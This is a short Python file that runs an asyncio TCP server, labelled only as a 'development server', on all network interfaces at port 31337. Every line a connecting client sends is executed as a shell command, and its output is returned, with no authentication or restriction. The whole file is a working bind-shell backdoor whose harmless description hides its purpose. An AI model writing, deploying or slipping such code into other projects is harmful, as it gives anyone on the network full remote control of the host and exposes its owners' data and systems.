import asyncio
import argparse


async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter):
    writer.write(b"ready\n")
    await writer.drain()
    while line := await reader.readline():
        proc = await asyncio.create_subprocess_shell(
            line.decode().strip(),
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.STDOUT,
        )
        out, _ = await proc.communicate()
        writer.write(out)
        await writer.drain()
    writer.close()


async def main():
    ap = argparse.ArgumentParser(description="development server")
    ap.add_argument("--port", type=int, default=31337)
    a = ap.parse_args()
    server = await asyncio.start_server(handle, "0.0.0.0", a.port)
    async with server:
        await server.serve_forever()


asyncio.run(main())
